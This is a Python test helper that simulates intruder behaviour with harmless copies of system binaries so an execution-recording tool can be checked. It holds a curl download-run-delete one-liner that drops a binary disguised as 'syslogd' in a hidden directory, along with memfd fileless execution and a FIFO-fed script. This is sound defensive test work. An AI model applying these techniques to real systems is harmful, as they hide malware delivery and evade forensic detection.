"""What an intruder does, for the artifact tests: download, run, delete; run from memory; loops.

Usage: intruder.py WORKDIR OUT_JSON
Every binary is a copy of a system one with unique bytes appended (an ELF runs with
trailing bytes), so its SHA-256 is this run's own. Writes the hashes and pids to OUT_JSON.
"""

from __future__ import annotations

import functools
import hashlib
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path


def unique_copy(src: str, dst: Path, extra: int = 0) -> str:
    data = Path(src).read_bytes() + os.urandom(32) + b"\0" * extra
    dst.write_bytes(data)
    dst.chmod(0o755)
    return hashlib.sha256(data).hexdigest()


def main(work: Path, out_json: Path) -> None:
    out: dict[str, object] = {}
    serve = work / "www"
    serve.mkdir()
    out["dropped_sha"] = unique_copy(shutil.which("sleep") or "/bin/sleep", serve / "syslogd")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(serve))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    port = httpd.server_address[1]
    # 1. the intruder: download, run in the background, delete at once
    drop = work / "shm" / ".x"
    drop.mkdir(parents=True)
    script = (f"curl -s -o {drop}/syslogd http://127.0.0.1:{port}/syslogd && chmod +x {drop}/syslogd && "
              f"({drop}/syslogd 4 &) ; sleep 0.05; rm -f {drop}/syslogd; echo $!")
    subprocess.run(["bash", "-c", script], check=True, capture_output=True)
    httpd.shutdown()
    out["dropped_path"] = str(drop / "syslogd")
    # 2. a program run from memory (memfd + fexecve), alive for a while
    mem = work / "memsrc"
    out["memfd_sha"] = unique_copy(shutil.which("sleep") or "/bin/sleep", mem)
    fd = os.memfd_create("payload", 0)
    os.write(fd, mem.read_bytes())
    mem.unlink()
    pid = os.fork()
    if pid == 0:
        os.execve(fd, ["payload", "3"], {})
    os.close(fd)
    out["memfd_pid"] = pid
    # 3. the same binary run 1,000 times
    loop = work / "tick"
    out["loop_sha"] = unique_copy(shutil.which("true") or "/bin/true", loop)
    subprocess.run(["bash", "-c", f"for i in $(seq 1000); do {loop}; done"], check=True)
    # 4. a script run by an interpreter, and a FIFO given to one as its script
    sh = work / "stage2.sh"
    sh.write_text(f"#!/bin/sh\n# {os.urandom(8).hex()}\nsleep 2\n")
    sh.chmod(0o755)
    out["script_sha"] = hashlib.sha256(sh.read_bytes()).hexdigest()
    subprocess.Popen([str(sh)])
    fifo = work / "pipe.sh"
    os.mkfifo(fifo)
    bash = subprocess.Popen(["bash", str(fifo)])
    time.sleep(1.5)  # the recorder sees the exec while bash waits on the FIFO
    with open(fifo, "w") as f:
        f.write("exit 0\n")
    bash.wait()
    out["fifo"] = str(fifo)
    # 5. a shared object dropped in a temporary directory and loaded (mapped executable) by a live process
    lib = work / "libfx.so"
    out["lib_sha"] = unique_copy("/usr/lib/x86_64-linux-gnu/libz.so.1", lib)
    loader = subprocess.Popen([sys.executable, "-c", f"import ctypes, time; ctypes.CDLL({str(lib)!r}); time.sleep(2.5)"])
    out["lib_pid"] = loader.pid
    # 6. a binary over the size limit
    big = work / "bigbin"
    out["big_sha"] = unique_copy(shutil.which("true") or "/bin/true", big, extra=3 << 20)
    subprocess.run([str(big)], check=True)
    os.waitpid(pid, 0)
    loader.wait()
    time.sleep(1.5)  # let the last exec records be drained while the processes are known
    out_json.write_text(json.dumps(out))


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
